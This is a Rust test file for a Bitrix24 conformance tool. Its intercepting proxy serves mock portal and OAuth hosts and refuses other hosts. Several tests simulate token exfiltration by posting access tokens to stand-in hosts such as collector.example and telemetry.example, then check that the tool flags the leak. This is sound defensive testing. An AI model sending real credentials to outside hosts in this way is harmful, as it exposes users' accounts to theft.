//! `--intercept`: the run's own loopback proxy stands between the handler and the world, so an
//! app that hard-codes `https://{DOMAIN}/rest/` and `https://oauth.bitrix.info/oauth/token/`, as
//! CRest and the SDKs do, reaches the mock portal and its OAuth server unchanged; any other host
//! is refused there, and a token carried to it fails `token-stays-home`, naming the host.

mod common;

use std::path::Path;
use std::process::Command;

use b24_conform::fire;
use b24_conform::intercept::{Client, FOREIGN_HOST, Intercept, OAUTH_HOSTS, PORTAL_HOST, foreign_names, home_names};
use b24_conform::portal::{Authority, Portal, PortalConfig};
use b24_conform::record::{Endpoint, Role, TokenRole};

use b24_conform::run::{Handler, RunConfig};
use b24_conform::suite::TokenState;
use common::{collect, free_port};

const AUTH: &str = "a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0";
const REFRESH: &str = "b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0";

/// The portals of a run behind its proxy, and a client that goes through the proxy and trusts
/// the run's CA and nothing else, as a handler started with --intercept does.
struct Scene {
    portal: Portal,
    _foreign: Portal,
    intercept: Intercept,
    client: reqwest::Client,
    _authority: Authority,
}

async fn scene() -> Scene {
    scene_for(Client::Handler).await
}

/// The scene with a proxy that serves `client`.
async fn scene_for(client: Client) -> Scene {
    let authority = Authority::new().unwrap();
    let start = |role| Portal::start_as("127.0.0.1:0".parse().unwrap(), role, PortalConfig::default(), None);
    let (mut portal, mut foreign) = (start(Role::Home).await.unwrap(), start(Role::Foreign).await.unwrap());
    portal.rename(home_names());
    foreign.rename(foreign_names());
    portal.grant(0, AUTH, REFRESH, TokenState::Valid, None);
    let intercept = Intercept::start(&portal, &foreign, &authority, client).await.unwrap();
    // Installs the process's crypto provider, which a client built by hand needs.
    let _ = fire::client();
    let ca = reqwest::Certificate::from_pem(authority.ca_pem().as_bytes()).unwrap();
    let client = reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(intercept.url()).unwrap())
        .tls_certs_only([ca])
        .build()
        .unwrap();
    Scene { portal, _foreign: foreign, intercept, client, _authority: authority }
}

#[tokio::test]
async fn the_portal_and_the_oauth_hosts_are_served_by_name_over_https_and_plain_http() {
    let scene = scene().await;
    let binding = scene.portal.binding(&scene._foreign);
    assert_eq!((binding.domain.as_str(), binding.protocol), (PORTAL_HOST, 1));
    assert_eq!(binding.foreign_domain, FOREIGN_HOST);
    assert_eq!(binding.server_endpoint, format!("https://{}/rest/", OAUTH_HOSTS[0]));

    // Through a CONNECT tunnel, with a certificate for the name: the portal's REST...
    let response =
        scene.client.get(format!("https://{PORTAL_HOST}/rest/user.current.json?auth={AUTH}")).send().await.unwrap();
    assert_eq!(response.status(), 200);
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["result"]["ID"], "1", "{body}");
    // ...and the refresh at the OAuth host CRest hard-codes, which names the portal by name.
    let client = scene.portal.client();
    let refresh = [
        ("grant_type", "refresh_token"),
        ("client_id", client.id.as_str()),
        ("client_secret", client.secret.as_str()),
        ("refresh_token", REFRESH),
    ];
    let response =
        scene.client.post(format!("https://{}/oauth/token/", OAUTH_HOSTS[0])).form(&refresh).send().await.unwrap();
    assert_eq!(response.status(), 200);
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["client_endpoint"], format!("https://{PORTAL_HOST}/rest/"), "{body}");
    assert_eq!(body["domain"], OAUTH_HOSTS[0], "{body}");
    // Plain http in absolute form, at b24pysdk's OAuth host: app.info.
    let token = body["access_token"].as_str().unwrap();
    let response =
        scene.client.get(format!("http://{}/rest/app.info?auth={token}", OAUTH_HOSTS[1])).send().await.unwrap();
    assert_eq!(response.status(), 200);

    let calls = scene.portal.take_calls(0);
    let seen: Vec<_> = calls.iter().map(|c| (c.portal, c.endpoint, c.token, c.status)).collect();
    assert_eq!(
        seen,
        [
            (Role::Home, Endpoint::Rest, TokenRole::Given, 200),
            (Role::Home, Endpoint::Oauth, TokenRole::Refresh, 200),
            (Role::Home, Endpoint::OauthRest, TokenRole::Refreshed, 200),
        ],
        "{calls:?}"
    );
    assert_eq!(scene.intercept.tally().refused, 0);
}

#[tokio::test]
async fn any_other_host_is_refused_there_and_recorded_with_the_case_whose_token_it_carried() {
    let scene = scene().await;
    let response = scene
        .client
        .post("https://collector.example/hook")
        .body(format!("{{\"token\":\"{AUTH}\"}}"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 403);
    assert!(response.text().await.unwrap().contains("collector.example is neither the mock portal"));
    // Plain http too, and without a token: recorded, but owned by no case.
    let response = scene.client.get("http://127.0.0.2:9/metrics").send().await.unwrap();
    assert_eq!(response.status(), 403);

    let calls = scene.portal.take_calls(0);
    assert_eq!(calls.len(), 1, "{calls:?}");
    assert_eq!(
        (calls[0].portal, calls[0].token, calls[0].http_method.as_str(), calls[0].method.as_str()),
        (Role::Elsewhere, TokenRole::Given, "POST", "https://collector.example/hook")
    );
    let unowned = scene.portal.take_remaining();
    assert_eq!(unowned.iter().map(|c| c.method.as_str()).collect::<Vec<_>>(), ["http://127.0.0.2:9/metrics"]);
    let tally = scene.intercept.tally();
    assert_eq!((tally.refused, tally.hosts.clone()), (2, vec!["collector.example".to_owned(), "127.0.0.2".to_owned()]));

    // Bounded: a case keeps a few of the requests refused with its token, and each only the
    // start of it; a token past that start is not looked for.
    for _ in 0..12 {
        let response = scene.client.get(format!("https://collector.example/poll?t={AUTH}")).send().await.unwrap();
        assert_eq!(response.status(), 403);
    }
    let padded = format!("{}{AUTH}", "x".repeat(8 << 10));
    scene.client.post("https://late.example/").body(padded).send().await.unwrap();
    let calls = scene.portal.take_calls(0);
    assert_eq!(calls.len(), 8, "{calls:?}");
    assert!(calls.iter().all(|c| c.method.starts_with("https://collector.example/poll")), "{calls:?}");
    assert_eq!(scene.portal.take_remaining().len(), 1, "the padded request is kept as one with no token");
}

#[test]
fn intercept_is_refused_with_the_built_in_handler() {
    let out = common::binary().args(["run", "--intercept"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--intercept needs --handler URL"), "{out:?}");
}

/// A handler that does not trust the run's CA fails every handshake in the proxy's tunnels; the
/// run says so, and what PHP needs.
#[test]
fn a_handler_that_does_not_trust_the_runs_ca_is_told_how_to() {
    let port = free_port();
    let command = python_handler(port, "SSL_CERT_FILE=");
    let handler = format!("http://127.0.0.1:{port}/");
    let out = common::binary()
        .args(["run", "--intercept", "--handler", &handler, "--handler-cmd", &command])
        .args(["--filter", "valid/documented-example", "--shrink-budget", "0", "--format", "json"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    // The handler refused the proxy's certificate and answered 502 after it; the proxy's side
    // of that handshake has ended by the time the run does.
    assert!(stderr.contains("warning: the intercepting proxy failed "), "{stderr}");
    assert!(stderr.contains("TLS handshake(s), the first: portal-1.bitrix24.test: "), "{stderr}");
    assert!(stderr.contains("-d curl.cainfo=\"$SSL_CERT_FILE\""), "{stderr}");
}

/// `python3 landing_settings.py PORT` (standard library only), with `environment` in front. It
/// calls B24_PORTAL_URL and B24_OAUTH_URL, which --intercept makes `https://portal-1.bitrix24.test`
/// and `https://oauth.bitrix.info/oauth/token/`, through the environment's proxy when the portal
/// has a name, as any app calls Bitrix24. Fails, rather than skips, without python3: CI has it.
fn python_handler(port: u16, environment: &str) -> String {
    let probe = Command::new("python3").arg("--version").output();
    assert!(probe.as_ref().is_ok_and(|out| out.status.success()), "these tests need python3 on PATH: {probe:?}");
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/handlers/landing_settings.py");
    format!("{environment} python3 '{}' {port}", fixture.display())
}

fn intercepted(port: u16, environment: &str, filters: &[&str]) -> RunConfig {
    let handler = Handler::Url(format!("http://127.0.0.1:{port}/landing-settings").parse().unwrap());
    RunConfig {
        handler_cmd: Some(python_handler(port, environment)),
        intercept: true,
        filters: filters.iter().map(|f| f.to_string()).collect(),
        shrink_budget: 0,
        ..RunConfig::new(handler)
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_handler_that_calls_the_portal_and_the_oauth_server_by_name_passes_through_the_proxy() {
    let port = free_port();
    let filters = ["valid/documented-example", "valid/options-absent", "token/expired", "domain/foreign"];
    let report = collect(&intercepted(port, "", &filters)).await.expect("the run happens");
    assert_eq!(
        (report.summary.cases, report.summary.passed),
        (filters.len(), filters.len()),
        "{}",
        common::human(&report)
    );
    for case in &report.cases {
        assert!(case.request.url.contains(&format!("DOMAIN={PORTAL_HOST}")) || case.id == "domain/foreign", "{case:?}");
        assert!(case.portal_calls.iter().all(|c| c.portal == Role::Home), "{}: {:?}", case.id, case.portal_calls);
    }
    // The refresh went to oauth.bitrix.info, through the proxy, to the mock OAuth server; the
    // call was then made again with the refreshed token.
    let expired = report.cases.iter().find(|c| c.id == "token/expired").unwrap();
    let calls: Vec<_> =
        expired.portal_calls.iter().map(|c| (c.endpoint, c.method.as_str(), c.token, c.status)).collect();
    assert!(calls.contains(&(Endpoint::Oauth, "refresh_token", TokenRole::Refresh, 200)), "{calls:?}");
    assert!(calls.contains(&(Endpoint::Rest, "user.current", TokenRole::Refreshed, 200)), "{calls:?}");
    // And the report says so.
    let json: serde_json::Value =
        serde_json::from_str(&common::text(&report, b24_conform::report::Format::Json)).unwrap();
    let expired = json["cases"].as_array().unwrap().iter().find(|c| c["id"] == "token/expired").unwrap();
    let refresh =
        serde_json::json!({"portal": "home", "endpoint": "oauth", "method": "refresh_token", "token": "refresh"});
    assert!(
        expired["portal_calls"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| ["portal", "endpoint", "method", "token"].iter().all(|k| c[k] == refresh[k])),
        "{expired}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_handler_that_sends_its_token_to_another_host_fails_token_stays_home_naming_it() {
    let port = free_port();
    let environment = "B24_TELEMETRY_URL=https://telemetry.example/collect";
    let report =
        collect(&intercepted(port, environment, &["valid/documented-example"])).await.expect("the run happens");
    let case = &report.cases[0];
    let verdict = case.checks.iter().find(|v| v.id == "token-stays-home").expect("token-stays-home judged");
    assert_eq!(verdict.outcome, b24_conform::record::Outcome::Fail, "{case:?}");
    assert!(
        verdict.message.starts_with("the case's given token went to telemetry.example, which is neither the portal"),
        "{}",
        verdict.message
    );
    // The page itself was served: only the token's trip fails the case.
    assert_eq!(case.response.as_ref().map(|r| r.status), Some(200));
    assert_eq!(report.summary.failed, 1);
}

/// The browser's proxy (`--browser` with `--intercept`) serves the portal by name as the
/// handler's does, and answers any other host 403 without recording it, token or not: DevTools
/// records the frame's requests itself, and Chromium's own are not the handler's.
#[tokio::test]
async fn the_browsers_proxy_refuses_other_hosts_without_recording_them() {
    let scene = scene_for(Client::Browser).await;
    let response =
        scene.client.get(format!("https://{PORTAL_HOST}/rest/user.current.json?auth={AUTH}")).send().await.unwrap();
    assert_eq!(response.status(), 200);
    let response = scene
        .client
        .post("https://collector.example/hook")
        .body(format!("{{\"token\":\"{AUTH}\"}}"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 403);
    let calls = scene.portal.take_calls(0);
    assert_eq!(calls.iter().map(|c| c.portal).collect::<Vec<_>>(), [Role::Home], "{calls:?}");
    assert!(scene.portal.take_remaining().is_empty());
    assert_eq!(scene.intercept.tally().refused, 0);
}
